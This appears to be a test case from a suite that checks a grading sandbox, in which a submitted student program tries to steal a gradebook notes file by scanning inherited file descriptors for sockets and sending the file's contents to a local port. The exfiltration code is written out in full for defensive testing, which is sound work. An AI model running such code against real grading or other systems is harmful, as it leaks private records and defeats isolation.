"""Writes what it read into every socket and pipe that it was born with.

No listener may hear it, and what the grader hears must change nothing.
"""

from pathlib import Path

from kit import Release, Scene, type_in, write

family = "theft"
safe_on_stock = True

CODE = """
import os, socket
try:
    secret = open("@COURSE@/gradebook/notes.txt", "rb").read()
except OSError:
    secret = b"nothing"
for number in range(3, 256):
    try:
        line = socket.socket(fileno=os.dup(number))
        print(number, line.family, line.getsockname(), line.getpeername())
    except OSError:
        pass
with socket.create_connection(("127.0.0.1", @PORT@), 1) as line:
    line.sendall(secret)
"""


def hand_in(release: Release, folder: Path, scene: Scene) -> None:
    type_in(release, scene.fill(CODE))
    write(release, folder)
